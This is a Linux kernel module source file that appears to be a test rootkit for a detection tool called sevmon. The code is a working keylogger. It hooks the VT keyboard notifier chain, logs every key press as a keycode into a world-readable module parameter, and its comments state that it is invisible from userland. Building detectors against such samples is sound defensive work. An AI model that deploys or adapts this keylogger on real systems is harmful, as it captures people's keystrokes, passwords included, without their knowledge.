// SPDX-License-Identifier: GPL-2.0
/*
 * rk_keyboard: a keylogger through register_keyboard_notifier() (the VT keyboard handler's
 * notifier chain, drivers/tty/vt/keyboard.c; needs CONFIG_VT, built in on Debian amd64). Every
 * key press on an input device the VT keyboard handler is bound to (PS/2 atkbd, USB HID,
 * uinput...) reaches the notifier as KBD_KEYCODE; it counts presses (`hits`) and keeps the last
 * keycodes in `keys` (decimal, space separated). Injected keys (QEMU's send-key on the i8042
 * PS/2 keyboard of the pc machine) count as well.
 *
 * Visible to: keyboard_notifier_list in memory (a notifier_block whose ->notifier_call is in a
 * module), nothing in userland.
 */
#include <linux/keyboard.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/notifier.h>

static unsigned long hits;
module_param(hits, ulong, 0444);
static char keys[128];
module_param_string(keys, keys, sizeof(keys), 0444);

static int rk_kbd(struct notifier_block *nb, unsigned long action, void *data)
{
	struct keyboard_notifier_param *p = data;
	size_t n = strlen(keys);

	if (action != KBD_KEYCODE || !p->down)
		return NOTIFY_OK;
	hits++;
	if (n + 5 >= sizeof(keys))
		n = 0;		/* start over when full */
	snprintf(keys + n, sizeof(keys) - n, "%s%u", n ? " " : "", p->value);
	return NOTIFY_OK;
}

static struct notifier_block rk_nb = { .notifier_call = rk_kbd };

static int __init rk_init(void)
{
	int err = register_keyboard_notifier(&rk_nb);

	if (!err)
		pr_info("rk_keyboard: keyboard notifier registered\n");
	return err;
}

static void __exit rk_exit(void)
{
	unregister_keyboard_notifier(&rk_nb);
	pr_info("rk_keyboard: removed after %lu key presses\n", hits);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("sevmon test rootkit: keyboard notifier (keylogger)");
